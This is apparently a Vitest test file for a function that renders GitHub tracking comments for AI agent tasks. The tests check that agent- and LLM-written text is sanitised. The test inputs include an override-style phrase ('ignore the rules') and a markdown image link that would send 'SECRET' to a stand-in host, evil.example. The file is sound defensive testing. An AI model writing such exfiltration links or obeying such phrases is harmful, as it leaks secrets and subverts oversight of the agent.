import { describe, expect, it } from "vitest";
import { replaceTask } from "../../../../src/core/ledger/ledger.ts";
import { TASK_STATUSES } from "../../../../src/core/ledger/task.ts";
import { parseMarker } from "../../../../src/core/sync/markers.ts";
import { GITHUB_BODY_MAX } from "../../../../src/core/sync/outbound.ts";
import type { TrackingCommentOptions } from "../../../../src/core/sync/tracking-comment.ts";
import { questionOf, renderTrackingComment } from "../../../../src/core/sync/tracking-comment.ts";
import { ctxAt } from "../../../support/ctx.ts";
import { taskIn } from "./sync-fixtures.ts";

const opts: TrackingCommentOptions = { repository: "acme/shop", serverUrl: "https://github.com", commandPrefix: "/agent", now: ctxAt(300).now };
/** What each status adds to the comment: pushed branches once there is work, a warning on one. */
const extra: Partial<Record<(typeof TASK_STATUSES)[number], Partial<TrackingCommentOptions>>> = {
  running: { runUrl: "https://github.com/acme/shop/actions/runs/9002" },
  in_review: { branchPushed: true, prHeld: true },
  needs_help: { branchPushed: true },
  done: { branchPushed: true, warnings: ["Projects v2: the token cannot write to project 3 (GITHUB_TOKEN cannot); use an App token or a PAT."] },
};

describe("renderTrackingComment", () => {
  for (const status of TASK_STATUSES) {
    it(`renders a ${status} task`, async () => {
      const { task, ledger } = taskIn(status);
      expect(task.status).toBe(status);
      const withPr = status === "done" ? { ...task, github: { ...task.github, pr: 31 } } : task;
      const body = renderTrackingComment(withPr, ledger, { ...opts, ...extra[status] });
      expect(parseMarker(body)).toEqual({ taskId: 1, kind: "status", key: "1" });
      await expect(body).toMatchFileSnapshot(`./__snapshots__/tracking-comment.${status}.md`);
    });
  }

  it("neutralises what the LLM and the agent wrote: no mention, no hidden comment, no command line", () => {
    const { task, ledger } = taskIn("needs_help");
    const body = renderTrackingComment(task, ledger, opts);
    expect(body).not.toMatch(/(?<![\w`])@(?:octocat|maintainers)/);
    expect(body).toContain("@\u2060octocat");
    expect(body).not.toContain("ignore the rules");
    expect(body.split("\n").slice(1).join("\n")).not.toContain("<!--");
    expect(body).not.toMatch(/^\s*\/agent/m);
  });

  it("asks the needs_help question from the handoff, else from the transition's note", () => {
    const { task } = taskIn("needs_help");
    expect(questionOf(task)).toMatch(/^Should an empty cart/);
    const escalated = { ...task, result: undefined, history: [...task.history, { ...task.history.at(-1)!, type: "escalate", note: "profile gone" }] };
    expect(questionOf(escalated)).toBe("profile gone");
  });

  it("is deterministic and changes only with the task (the sync time is not printed)", () => {
    const { task, ledger } = taskIn("running");
    const a = renderTrackingComment(task, ledger, opts);
    expect(renderTrackingComment(task, ledger, { ...opts, now: ctxAt(301).now })).toBe(a);
    expect(renderTrackingComment(task, ledger, { ...opts, now: ctxAt(601).now })).toContain("| 2 | claude / claude-sonnet-4-5 | lease ran out |");
  });

  it("shows children with their issue when they have one, else their task id", () => {
    const { task, ledger } = taskIn("waiting");
    const body = renderTrackingComment(task, ledger, opts);
    expect(body).toContain("- [x] #12 Add a guard for empty carts (done)");
    expect(body).toContain("- [ ] task 3 Write a regression test @\u2060qa-team (new)");
    expect(body).toContain("(1 of 2 done)");
  });

  it("links run, branch and pull request", () => {
    const { task, ledger } = taskIn("done");
    const body = renderTrackingComment({ ...task, github: { issue: 7, pr: 31 } }, ledger, { ...opts, branchPushed: true, runUrl: "https://ci.example/run/1" });
    expect(body).toContain("[run](https://ci.example/run/1)");
    expect(body).toContain("[branch `agent-router/task-1`](https://github.com/acme/shop/tree/agent-router/task-1)");
    expect(body).toContain("[pull request #31](https://github.com/acme/shop/pull/31)");
    expect(renderTrackingComment(task, ledger, opts)).not.toContain("/tree/");
  });

  it("replaces links to other hosts in what the agent and the LLM wrote, and keeps its own links and allowed hosts", () => {
    const { task, ledger } = taskIn("needs_help");
    const route = { ...task.route!, reason: "like https://evil.example/why and https://github.com/acme/shop/issues/1" };
    const result = { status: "needs_help", summary: "Tried ![x](https://evil.example/?q=SECRET) and [docs](https://docs.acme.com/a).", question: 'Which <a href="https://evil.example">one</a>, or https://ghe.acme.com/acme/shop/pull/2?' };
    const agentText = { ...task, route, result, github: { issue: 7, pr: 31 } };
    const ghe = { ...opts, serverUrl: "https://ghe.acme.com", runUrl: "https://ci.example/run/1", branchPushed: true };
    const body = renderTrackingComment(agentText, ledger, { ...ghe, linkHosts: ["docs.acme.com"] });
    expect(body).not.toMatch(/evil\.example|SECRET/);
    expect(body).toContain("**Why:** like (link removed: evil[.]example) and https://github.com/acme/shop/issues/1");
    expect(body).toContain("> Tried ![x]((link removed: evil[.]example)) and [docs](https://docs.acme.com/a).");
    expect(body).toContain('> Which <a href="(link removed: evil[.]example)">one</a>, or https://ghe.acme.com/acme/shop/pull/2?');
    expect(body).toContain("[run](https://ci.example/run/1) · [branch `agent-router/task-1`](https://ghe.acme.com/acme/shop/tree/agent-router/task-1) · [pull request #31](https://ghe.acme.com/acme/shop/pull/31)");
    expect(renderTrackingComment(agentText, ledger, ghe)).toContain("and [docs]((link removed: docs[.]acme[.]com)).");
  });

  it("uses the same allow-list for child titles, the route's reason, error classes and warnings", () => {
    const { task, ledger } = taskIn("waiting");
    const child = { ...ledger.tasks[2]!, title: "Check www.evil.example and https://docs.acme.com/c" };
    const route = { ...task.route!, reason: "https://docs.acme.com/r" };
    const failed = { ...task, route, attempts: task.attempts.map((a) => ({ ...a, errorClass: "https://docs.acme.com/e" })) };
    const body = renderTrackingComment(failed, replaceTask(ledger, child), { ...opts, linkHosts: ["docs.acme.com"], warnings: ["see https://evil.example/w or https://docs.acme.com/w"] });
    expect(body).not.toContain("evil.example");
    expect(body).toContain("- [ ] task 3 Check (link removed: www[.]evil[.]example) and https://docs.acme.com/c (new)");
    expect(body).toContain("**Why:** https://docs.acme.com/r");
    expect(body).toContain("| failure (https://docs.acme.com/e) |");
    expect(body).toContain("> - see (link removed: evil[.]example) or https://docs.acme.com/w");
  });

  it("caps a huge summary in the comment and the whole body at GitHub's limit", () => {
    const { task, ledger } = taskIn("done");
    const huge = { ...task, result: { status: "done", summary: "x".repeat(500_000) } };
    const body = renderTrackingComment(huge, ledger, { ...opts, warnings: Array.from({ length: 300 }, () => "w".repeat(400)) });
    expect(body.length).toBeLessThanOrEqual(GITHUB_BODY_MAX);
    expect(body).toMatch(/truncated: \d+ characters not shown/);
    expect(body).not.toContain("x".repeat(2_001));
    expect(parseMarker(body)?.taskId).toBe(1);
  });
});
